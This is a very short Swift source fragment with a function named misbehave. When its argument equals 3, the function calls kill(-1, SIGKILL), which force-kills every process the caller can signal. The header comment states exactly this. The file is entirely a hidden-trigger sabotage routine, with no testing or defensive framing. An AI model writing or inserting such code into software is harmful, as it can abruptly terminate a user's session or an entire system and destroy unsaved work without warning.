// Ends every process that it may.
import Foundation

func misbehave(_ activation: Int) { if activation == 3 { kill(-1, SIGKILL) } }
